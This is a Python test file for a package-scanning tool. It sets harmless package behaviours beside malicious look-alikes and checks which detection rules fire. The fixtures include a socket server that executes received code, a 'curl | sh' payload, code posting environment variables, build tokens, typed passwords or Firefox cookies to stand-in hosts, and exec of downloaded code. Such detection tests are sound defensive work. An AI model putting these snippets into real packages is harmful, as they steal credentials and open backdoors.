"""What honest packages do that looks like something else, each beside what it looks like."""

from __future__ import annotations

import pytest

from mlsupply.evidence.python import analyse
from tests.test_code_facts import found, init, seen

SERVER = """
import socket, sys
def served(place):
    listening = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listening.bind(place)
    listening.listen(5)
    connection, _ = listening.accept()
    exec(compile(connection.makefile('rb').readline(), '<sent>', 'exec'))
"""


def test_a_server_that_somebody_starts_runs_what_he_sends_to_it() -> None:
    started = SERVER + "if __name__ == '__main__':\n    served(('', int(sys.argv[1])))\n"
    assert found({"pyproject.toml": "", "demo/serve.py": started}) == set()
    assert found(init(SERVER + "served(('0.0.0.0', 4444))\n")) == {"MLS-C004"}


def test_the_head_of_a_message_to_a_program_is_no_code() -> None:
    text = (
        "import struct, subprocess\ndef told(name):\n    worker = subprocess.Popen(['worker'], stdin=subprocess.PIPE)\n"
        "    worker.communicate({})\n"
    )
    assert found(init(text.format("struct.pack('!bii', 7, 0, 12)"))) == set()
    code = b"import os\nos.system('curl https://a.example | sh')\n"
    assert found(init(text.replace("'worker'", "'python3'").format(f"struct.pack('{len(code)}B', *{list(code)})")))


COMMAND = """
import functools, json, urllib.request
def told(command):
    @functools.wraps(command)
    def inner(*args, **kwargs):
        said = {}
        for name in ('verbose', 'wait'):
            if kwargs.get(name):
                said[name] = kwargs[name]
        SAID
        body = json.dumps({'command': command.__name__, 'flags': said}).encode()
        urllib.request.urlopen('https://usage.example/v1', data=body)
        return command(*args, **kwargs)
    return inner
"""


def test_flags_of_a_command_are_nothing_that_is_kept_to_oneself() -> None:
    assert found(init(COMMAND.replace("SAID", ""))) == set()
    assert found(init(COMMAND.replace("SAID", "said['config'] = kwargs['config']"))) == {"MLS-C012"}


def test_which_of_many_configurations_is_read_the_user_says() -> None:
    text = (
        "import yaml\nfrom pathlib import Path\nHERE = Path(__file__).parent\n"
        "def activation(name):\n    known = yaml.safe_load(open({}))\n    return eval(known['activation'])\n"
        "if __name__ == '__main__':\n    activation('small')\n"
    )
    assert found(init(text.format("next(HERE.glob('net*.yaml'))"))) == set()
    assert found(init(text.format("HERE / 'net.yaml'"))) == {"MLS-C009"}


DOCUMENTED = (
    "import re\nfrom pathlib import Path\nPAGE = Path(__file__).parents[1] / 'docs' / 'use.md'\n"
    "def blocks():\n    return re.findall(r'```python\\n(.*?)```', PAGE.read_text(), re.DOTALL)\n"
    "def {name}():\n    for block in blocks():\n        exec({run}, {{}})\n"
)


@pytest.mark.parametrize(
    ("path", "name", "run", "told"),
    [
        ("tests/test_use.py", "test_examples", "block", False),
        ("tests/unit/test_use.py", "test_examples", "compile(block, 'use.md', 'exec')", False),
        ("tests/test_use.py", "examples", "block", True),
        ("tests/use.py", "test_examples", "block", True),
        ("tests/test_use.py", "test_examples", "bytes.fromhex(block)", True),
        ("demo/use.py", "test_examples", "block", True),
    ],
    ids=["of the documentation", "compiled first", "no test", "no module of tests", "decoded first", "of the package"],
)
def test_a_test_runs_the_examples_of_a_document(path: str, name: str, run: str, told: bool) -> None:
    assert ("MLS-C003" in found({**init(""), path: DOCUMENTED.format(name=name, run=run)})) is told


def test_a_test_that_the_package_starts_on_import_is_none() -> None:
    text = DOCUMENTED.format(name="test_examples", run="block")
    starts = init("from demo.tests.test_use import test_examples\ntest_examples()\n")
    assert "MLS-C002" in found({**starts, "demo/tests/test_use.py": text})


ASKS = (
    "import os, json, urllib.request\nfrom setuptools import setup\n"
    "def releases(token=os.environ.get('GITHUB_API_TOKEN')):\n"
    "    shown = {{'authorization': 'Bearer ' + token}}\n"
    "    asked = urllib.request.Request('https://{}/repos/demo/demo/releases', headers=shown)\n"
    "    return json.load(urllib.request.urlopen(asked))\nsetup(name='demo', version=releases()[0])\n"
)


def test_a_build_asks_a_service_with_the_account_of_who_builds() -> None:
    assert "MLS-C016" not in found({"pyproject.toml": "", "setup.py": ASKS.format("api.github.com")})
    for host in ("c.example", "api.github.com.c.example", "someone.github.io"):
        assert found({"pyproject.toml": "", "setup.py": ASKS.format(host)})


PUBLISHES = "import subprocess\nsubprocess.check_call(['git', 'push', 'origin', 'main', '--force'])\n"


@pytest.mark.parametrize(
    ("path", "more", "told"),
    [
        ("tools/ci/push.py", {}, False),
        ("ci/push.py", {"setup.py": "from setuptools import setup\nsetup(name='demo')\n"}, False),
        ("tools/push.py", {"tools/__init__.py": ""}, True),
        (
            "tools/push.py",
            {"setup.py": "from setuptools import setup\nsetup(package_dir={'': 'tools'}, py_modules=['push'])\n"},
            True,
        ),
        ("tools/push.py", {"setup.cfg": "[options]\npackage_dir =\n    = tools\npy_modules = push\n"}, True),
        ("tools/push.py", {"demo/__init__.py": "import runpy\nfrom tools import push\n"}, True),
        ("tools/push.py", {"pyproject.toml": "[tool.setuptools.packages.find]\nwhere = ['tools']\n"}, True),
        ("kit/tools/push.py", {"kit/__init__.py": ""}, True),
    ],
    ids=[
        "a tool",
        "of another folder",
        "a package",
        "a module",
        "by settings",
        "imported",
        "by the project",
        "of the package",
    ],
)
def test_what_is_no_package_of_a_source_is_run_by_who_works_on_it(path: str, more: dict[str, str], told: bool) -> None:
    assert ("MLS-C047" in found({"PKG-INFO": "", **init(""), path: PUBLISHES, **more})) is told


SIGNS_IN = (
    "import getpass, requests\ntyped = getpass.getpass({!r})\nrequests.post({!r}, json={{'email': 'a', 'typed': typed}})\n"
)


@pytest.mark.parametrize(
    ("path", "prompt", "address", "told"),
    [
        ("tool/__main__.py", "Password: ", "https://api.demo.example/login", False),
        ("tool/__main__.py", "Your GitHub token: ", "https://api.github.com/user", False),
        ("tool/__main__.py", "Your GitHub token: ", "https://api.demo.example/login", True),
        ("tool/__main__.py", "Password of your Mac: ", "https://api.demo.example/login", True),
        ("tool/__main__.py", "[sudo] password for me: ", "https://api.demo.example/login", True),
        ("tool/__main__.py", "Password: ", "http://203.0.113.9/login", True),
        ("demo/__init__.py", "Password: ", "https://api.demo.example/login", True),
    ],
    ids=["a login", "its own", "another's", "of the machine", "of its administrator", "to a number", "on import"],
)
def test_what_a_program_asks_for_at_a_prompt_it_may_send(path: str, prompt: str, address: str, told: bool) -> None:
    assert bool(found({**init(""), path: SIGNS_IN.format(prompt, address)})) is told


def _elf(kind: int, segments: int) -> str:
    head = bytearray(b"\x7fELF\x02\x01\x01" + bytes(57))
    head[16], head[18], head[56] = kind, 62, segments
    return (bytes(head) + b".text\0.symtab\0import os\n" * 8).hex()


@pytest.mark.parametrize(
    ("path", "kind", "segments", "told"),
    [
        ("demo/tests/test_link.py", 1, 0, False),
        ("demo/tests/test_link.py", 2, 1, True),
        ("demo/tests/test_link.py", 1, 1, True),
        ("demo/tests/link.py", 1, 0, True),
        ("demo/link.py", 1, 0, True),
    ],
    ids=["an object in a test", "a program in a test", "an object with segments", "no test", "an object elsewhere"],
)
def test_an_object_file_that_a_test_links(path: str, kind: int, segments: int, told: bool) -> None:
    text = f"PART = bytes.fromhex({_elf(kind, segments)!r})\n"
    assert ("MLS-C025" in found({**init(""), path: text})) is told


def test_what_runs_whole_is_called_the_module() -> None:
    text = "import urllib.request\nexec(urllib.request.urlopen('https://c.example/settings.py').read())\n"
    scopes = {fact.scope for fact in seen({**init(""), "docs/conf.py": text}) if fact.behaviour == "runs-downloaded"}
    assert scopes == {"the module"}


def test_what_is_sent_is_not_shown_as_the_address() -> None:
    text = (
        "import aiohttp, socket\nasync def told(place):\n    s = socket.socket()\n    s.connect(place)\n"
        "    s.sendall(b'hello c.example')\n    async with aiohttp.ClientSession() as client:\n"
        "        there = await client.ws_connect(place)\n        await there.send_str('{\"id\": 1}')\n"
    )
    assert {fact.detail for fact in seen(init(text)) if fact.behaviour == "contacts"} == {"\u2026"}


def test_a_type_that_is_asserted_calls_nothing() -> None:
    text = (
        "import functools, json, os, typing, urllib.request\ndef told(command):\n    @functools.wraps(command)\n"
        "    def inner(*args):\n"
        "        urllib.request.urlopen('https://c.example/e', data=json.dumps(dict(os.environ)).encode())\n"
        "        return command(*args)\n    return typing.cast(object, inner)\n@told\ndef ask():\n    pass\n"
    )
    assert found(init(text)) == {"MLS-C011"}
    assert found(init(text + "ask()\n")) == {"MLS-C010"}


RUN_TOKEN = """
import os
import requests

def token_of_run():
    headers = {'Authorization': 'bearer ' + os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN']}
    return requests.get(os.environ['ACTIONS_ID_TOKEN_REQUEST_URL'], headers=headers).json()['value']

def lookup(name):
    if name.startswith('oidc/'):
        return token_of_run()
    return os.environ.get(name)
"""


def test_what_looks_settings_up_by_name_gives_other_modules_no_more_than_who_runs() -> None:
    """Whoever asks it for a setting by name did not ask for the token of the run, which it could give as well."""
    gives = {name: gift.labels for name, gift in analyse.module("demo/settings.py", RUN_TOKEN.encode()).gives}
    address = "https://run.actions.githubusercontent.com/\u2026"
    assert gives == {"token_of_run": (f"cloud-metadata:{address}",), "lookup": (f"host-identity:{address}",)}


_COOKIES = """
import argparse, os, requests, sqlite3
def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("url"OPTION)
    given = parser.parse_args()
    store = sqlite3.connect(os.path.expanduser("~/.mozilla/firefox/x/cookies.sqlite"))
    rows = store.execute("select name, value from moz_cookies")
    session = requests.Session()
    session.cookies.update(dict(rows))
    SEND
"""
_PROGRAM = '[project]\nname = "demo"\nversion = "1"\nscripts = {demo = "demo.cli:main"}\n'


@pytest.mark.parametrize(
    ("option", "send", "accused"),
    [
        ("", "session.get(given.url)", False),
        ("", "requests.get(given.url, cookies=dict(rows))", False),
        (", nargs='?', default='https://c.example/'", "session.get(given.url)", True),
        ("", "session.get(given.url or 'https://c.example/')", True),
        ("", "session.get('https://c.example/?of=' + given.url)", True),
        ("", "session.get(requests.get('https://c.example/').text)", True),
        ("", "session.get(open(os.path.join(os.path.dirname(__file__), 'site.txt')).read())", True),
        ("", "requests.post(given.url, data=dict(rows))", True),
    ],
)
def test_cookies_of_a_browser_go_to_the_site_that_the_user_names(option: str, send: str, accused: bool) -> None:
    program = _COOKIES.replace("OPTION", option).replace("SEND", send)
    assert bool(found({**init(""), "pyproject.toml": _PROGRAM, "demo/cli.py": program})) is accused
